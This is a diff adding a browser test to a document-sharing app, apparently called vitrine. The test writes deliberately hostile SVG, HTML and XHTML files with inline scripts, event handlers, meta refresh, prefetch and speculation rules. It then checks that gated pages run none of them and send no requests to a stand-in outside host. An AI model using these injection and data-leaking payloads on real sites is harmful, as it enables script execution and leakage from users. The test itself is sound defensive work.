@@ -266,6 +266,39 @@ test("a gated document cannot carry what it knows to one that may talk to the wo
   }
 });
 
+test("a gated drawing or page in a tab of its own runs nothing and asks nobody else", { timeout: 90_000 }, async () => {
+  const folder = mkdtempSync(join(tmpdir(), "vitrine-alone-"));
+  const away = "http://elsewhere.localhost/";
+  const script = `document.documentElement.setAttribute("data-ran", "yes"); fetch("${away}fetched"); location.href = "${away}left?" + encodeURIComponent(location.pathname)`;
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload='${script.replaceAll("'", "")}'><rect width="40" height="40" fill="teal"/><image href="${away}image" width="9" height="9"/><script>${script.replaceAll("&", "&amp;")}</script></svg>`;
+  const rules = JSON.stringify({ prefetch: [{ urls: [`${away}rules`] }] });
+  const html = `<!doctype html><meta http-equiv="refresh" content="0; url=${away}refresh"><link rel="prefetch" href="${away}prefetch"><link rel="stylesheet" href="${away}sheet"><style>body { background: url(${away}background) }</style><p>here</p><img src="${away}image" onerror='${script.replaceAll("'", "")}'><iframe src="${away}frame"></iframe><object data="${away}object"></object><script>${script}</script><script type="speculationrules">${rules}</script>`;
+  writeFileSync(join(folder, "evil.svg"), svg);
+  writeFileSync(join(folder, "evil.html"), html);
+  writeFileSync(join(folder, "evil.xhtml"), `<html xmlns="http://www.w3.org/1999/xhtml"><body><p>here</p><script>${script}</script></body></html>`);
+  const leaky = publishGated(folder);
+  const page = await newPage(browser);
+  await open(page, await linkWithToken(leaky, "evil.svg"));
+  const picture = await page.locator("main img").getAttribute("src");
+  await page.waitForFunction(() => document.querySelector("main img").naturalWidth > 0);
+  for (const name of ["evil.svg", "evil.html", "evil.xhtml"]) {
+    const alone = await page.context().newPage();
+    const asked = [];
+    await alone.route(`${away}**`, (route) => route.fulfill({ body: "" }));
+    alone.on("request", (request) => asked.push(request.url()));
+    const [answer] = await Promise.all([alone.waitForResponse((one) => one.url().startsWith(frameOrigin)), alone.goto(picture.replace("evil.svg", name), { waitUntil: "load" })]);
+    assert.equal(answer.status(), 200, name);
+    // What could leave by itself leaves within moments of the page's end.
+    await alone.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
+    await alone.waitForTimeout(500);
+    assert.equal(await alone.evaluate(() => document.documentElement.getAttribute("data-ran")), null, name);
+    assert.ok(alone.url().startsWith(`${frameOrigin}/gated/~`), alone.url());
+    assert.deepEqual(asked.filter((url) => !url.startsWith(frameOrigin)), [], name);
+    await alone.close();
+  }
+  await page.context().close();
+});
+
 test("another site cannot embed a share, nor hear a token", { timeout: 60_000 }, async () => {
   const page = await newPage(browser);
   const html = `<iframe src="${shareUrl(published)}"></iframe>`;
